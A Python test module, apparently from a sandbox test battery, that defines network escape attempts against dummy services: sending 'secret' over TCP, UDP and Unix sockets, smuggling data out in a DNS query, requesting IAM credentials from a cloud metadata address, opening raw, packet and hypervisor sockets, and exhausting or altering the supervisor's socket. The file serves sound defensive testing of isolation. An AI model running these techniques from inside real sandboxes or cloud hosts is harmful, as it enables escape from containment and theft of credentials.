"""Reaching other machines and services; all of them dummies in a network of the battery's own."""

from tests.attacks.attack import attack
from tests.attacks.proofs import harmed, returned
from tests.attacks.walls import NETWORK, OWN_UID, PRIVILEGES
from tests.attacks.weapons import ctypes, own_socket, raw


def _heard(name):
    return {"proof": harmed(name), "outcomes": "tool_error"}


@attack("network", NETWORK, **_heard("tcp"))
def tcp(**a):
    """Connect to a service."""
    import socket

    socket.create_connection(tuple(a["addresses"]["tcp"])).sendall(b"secret")


@attack("network", NETWORK, **_heard("tcp"))
def tcp_by_number(**a):
    """Connect by system calls alone."""
    import struct

    _, port = a["addresses"]["tcp"]
    raw("connect", raw("socket", 2, 1, 0), struct.pack("<H", 2) + struct.pack("!H", port) + bytes((127, 0, 0, 1)) + bytes(8), 16)


@attack("network", NETWORK, **_heard("tcp6"))
def tcp_over_ipv6(**a):
    """Connect by the other protocol."""
    import socket

    address = a["addresses"]["tcp6"]
    connection = socket.socket(socket.AF_INET6 if len(address) == 4 else socket.AF_INET)
    connection.connect(tuple(address))


@attack("network", NETWORK, native="gVisor has no such flag", **_heard("tcp"))
def tcp_without_connecting(**a):
    """Connect and send in one call, past a filter on connect."""
    import socket

    connection = socket.socket()
    connection.sendto(b"secret", 0x20000000, tuple(a["addresses"]["tcp"]))


@attack("network", NETWORK, **_heard("udp"))
def udp(**a):
    """Send a datagram."""
    import socket

    socket.socket(type=socket.SOCK_DGRAM).sendto(b"secret", tuple(a["addresses"]["udp"]))


@attack("network", NETWORK, **_heard("dns"))
def name_service(**a):
    """Carry data out by a question to the name service."""
    import socket

    question = b"\x00\x01\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x04test\x00\x00\x01\x00\x01"
    socket.socket(type=socket.SOCK_DGRAM).sendto(question, tuple(a["addresses"]["dns"]))


@attack("network", NETWORK, **_heard("metadata"))
def metadata_service(**a):
    """Ask the cloud's metadata address for credentials."""
    import socket

    connection = socket.create_connection(tuple(a["addresses"]["metadata"]))
    connection.sendall(b"GET /latest/meta-data/iam HTTP/1.0\r\n\r\n")


@attack("network", NETWORK, **_heard("api"))
def api_server(**a):
    """Talk to the cluster's API server."""
    import socket

    socket.create_connection(tuple(a["addresses"]["api"])).sendall(b"GET /api HTTP/1.0\r\n\r\n")


@attack("network", NETWORK, **_heard("unix"))
def unix_socket(**a):
    """Connect to a socket that is a file, as those of container runtimes are."""
    import socket

    socket.socket(socket.AF_UNIX).connect(a["addresses"]["unix"])


@attack("network", NETWORK, **_heard("abstract"))
def nameless_unix_socket(**a):
    """Connect to a socket that is no file."""
    import socket

    socket.socket(socket.AF_UNIX).connect(a["addresses"]["abstract"])


@attack("network", NETWORK, **_heard("datagrams"))
def unix_datagram(**a):
    """Send a datagram on the same machine."""
    import socket

    socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b"secret", a["addresses"]["datagrams"])


@attack(
    "network", NETWORK, OWN_UID, PRIVILEGES, alone=(NETWORK,), native="gVisor has raw sockets by a flag alone", proof=returned(), root=True
)
def raw_socket(**a):
    """Send packets of one's own making."""
    import socket

    return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).fileno() >= 0


@attack(
    "network",
    NETWORK,
    OWN_UID,
    PRIVILEGES,
    alone=(NETWORK,),
    native="gVisor has packet sockets by a flag alone",
    proof=returned(),
    root=True,
)
def packet_socket(**a):
    """Listen to everybody's packets."""
    import socket

    return socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 768).fileno() >= 0


@attack("network", NETWORK, proof=returned())
def netlink_socket(**a):
    """Ask the kernel about the network."""
    import socket

    return socket.socket(16, socket.SOCK_RAW, 0).fileno() >= 0


@attack("network", NETWORK, proof=returned(), native="gVisor has no such sockets")
def socket_to_the_hypervisor(**a):
    """Open a socket to the machine's host."""
    import socket

    return socket.socket(40, socket.SOCK_STREAM).fileno() >= 0


@attack("network", NETWORK, proof=returned())
def open_a_service(**a):
    """Wait for orders from outside."""
    import socket

    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    return server.getsockname()[1] > 0


@attack("network", NETWORK, proof=returned())
def pair_of_sockets(**a):
    """Make sockets to hide descriptors in."""
    import socket

    one, other = socket.socketpair()
    one.send(b"x")
    return other.recv(1) == b"x"


@attack("network", NETWORK, outcomes="tool_error", proof=returned())
def send_a_descriptor_to_the_supervisor(**a):
    """Push descriptors into the supervisor until it has none left."""
    import socket

    connection = socket.socket(fileno=own_socket())
    try:
        return socket.send_fds(connection, [b""], [connection.fileno()]) == 0
    finally:
        connection.detach()


@attack("network", NETWORK, proof=returned())
def change_the_own_socket(**a):
    """Change the session's socket below the supervisor."""
    kind = ctypes()
    library = kind.CDLL(None, use_errno=True)
    if library.setsockopt(own_socket(), 1, 7, kind.byref(kind.c_int(1 << 20)), 4):
        raise OSError(kind.get_errno(), "setsockopt")
    return True
